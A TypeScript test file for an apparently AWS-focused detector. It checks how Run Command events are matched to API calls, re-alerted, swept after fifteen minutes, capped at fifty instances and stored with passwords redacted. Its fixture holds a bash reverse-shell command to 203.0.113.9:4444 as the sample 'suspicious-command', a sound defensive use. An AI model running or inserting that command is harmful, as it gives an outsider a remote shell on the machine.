import type { NativeCommand } from '../../../shared/model/normalized'
import { MINUTE } from '../../../shared/model/time'
import { processActivity } from '../../../shared/pipeline/process-activity'
import { completeText } from '../../../shared/pipeline/complete-text'
import { NO_NATIVES } from '../../../shared/pipeline/ports'
import { processNative, storedNatives } from '../../../shared/pipeline/process-native'
import { sweep } from '../../../shared/pipeline/sweep'
import { awsActivity, NOON } from '../../support/activity'
import { testDetector, type TestDetector } from '../../support/detector'

const COMMAND = '00000000-0000-0000-0000-0000000000c1'
const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'

const native = (given: Partial<NativeCommand> = {}): NativeCommand => ({
  id: 'n1',
  commandId: COMMAND,
  at: NOON,
  account: '123456789012',
  region: 'eu-west-1',
  document: 'AWS-RunShellScript',
  text: SHELL,
  instances: ['i-0123456789abcdef0'],
  ...given,
})

const call = awsActivity({ commandId: COMMAND })

/** A detector that meets native events and has no other text; its wall clock stands shortly after the events. */
const detectorWithNatives = (): TestDetector => {
  const detector = testDetector()
  detector.clock.time = NOON + MINUTE
  const natives = storedNatives(detector.state, detector.clock)
  return { ...detector, ports: { ...detector.ports, natives } }
}

/** A detector to which the native events of its calls have not come. */
const blindly = (detector: TestDetector): TestDetector => ({
  ...detector,
  ports: { ...detector.ports, natives: NO_NATIVES },
})

const rulesOf = (detector: TestDetector): readonly (readonly string[])[] =>
  detector.alerts.map(({ findings }) => findings.map(({ rule }) => rule.split('.').at(-1) ?? '').sort())

const WITH_TEXT = ['first-seen-caller', 'first-seen-caller-on-target', 'suspicious-command']
const WITHOUT_TEXT = ['first-seen-caller', 'first-seen-caller-on-target']

describe('native events of a command', () => {
  it('that came first bring their text to the call', async () => {
    const detector = detectorWithNatives()
    await processNative(detector, native())
    await processActivity(detector, call, 'first')
    expect(rulesOf(detector)).toEqual([WITH_TEXT])
  })

  it('that come later have the call judged again, under the same alert id', async () => {
    const detector = detectorWithNatives()
    await processActivity(detector, call, 'first')
    await processNative(detector, native())
    expect(rulesOf(detector)).toEqual([WITHOUT_TEXT, WITH_TEXT])
    expect(new Set(detector.alerts.map(({ id }) => id)).size).toBe(1)
    expect(detector.alerts.map(({ kind }) => kind)).toEqual(['alert', 'update'])
  })

  it('say nothing more of a call whose text is known', async () => {
    const detector = detectorWithNatives()
    await processActivity(detector, { ...call, payload: { kind: 'text', text: SHELL } }, 'first')
    const before = detector.state.entries()
    await processNative(detector, native({ text: 'date' }))
    expect(rulesOf(detector)).toEqual([WITH_TEXT])
    expect(detector.state.entries()).toEqual(before)
  })

  it('that passed the call unseen are joined to it by the sweep', async () => {
    const detector = detectorWithNatives()
    // The event looked for the call before the call had left its mark, and the call looked for
    // events before this one was kept.
    await processNative(detector, native())
    await processActivity(blindly(detector), call, 'first')
    await detector.ports.natives.meet(call)
    await sweep(detector)
    expect(rulesOf(detector)).toEqual([WITHOUT_TEXT])
    detector.clock.time += 15 * MINUTE
    await sweep(detector)
    expect(rulesOf(detector)).toEqual([WITHOUT_TEXT, WITH_TEXT])
  })

  it('wait for a call that is being judged', async () => {
    const detector = detectorWithNatives()
    await detector.ports.natives.meet(call)
    await processNative(detector, native())
    detector.clock.time += 15 * MINUTE
    await sweep(detector)
    await processActivity(blindly(detector), call, 'first')
    detector.clock.time += 5 * MINUTE
    await sweep(detector)
    expect(rulesOf(detector)).toEqual([WITHOUT_TEXT, WITH_TEXT])
  })

  it('whose call never comes are judged without a caller fifteen minutes after the first of them', async () => {
    const detector = detectorWithNatives()
    await processNative(detector, native({ text: null }))
    detector.clock.time += 14 * MINUTE
    await processNative(detector, native({ id: 'n2', at: NOON + 14 * MINUTE }))
    await sweep(detector)
    expect(detector.alerts).toEqual([])
    detector.clock.time += MINUTE
    await sweep(detector)
    expect(detector.alerts.map(({ actor, time, severity }) => [actor.kind, time, severity])).toEqual([
      ['unknown', '2026-03-02T10:00:00.000Z', 'high'],
    ])
    expect(rulesOf(detector)[0]).toContain('suspicious-command')
  })

  it('are kept up to fifty, however many machines a command has', async () => {
    const detector = detectorWithNatives()
    for (let place = 0; place < 120; place++)
      await processNative(
        detector,
        native({
          id: `n${place}`,
          text: place === 0 ? SHELL : null,
          instances: [`i-${String(place).padStart(17, '0')}`],
        }),
      )
    const { targets } = await completeText(detector, {
      ...call,
      targets: { kind: 'unknown', reason: 'omitted for size' },
    })
    expect(targets.kind === 'listed' && targets.ids.length).toBe(50)
  })

  it('keep their text without secrets', async () => {
    const detector = detectorWithNatives()
    await processNative(detector, native({ text: 'mysql --password=correct-horse-battery' }))
    expect(JSON.stringify(detector.state.entries())).not.toContain('correct-horse')
  })
})
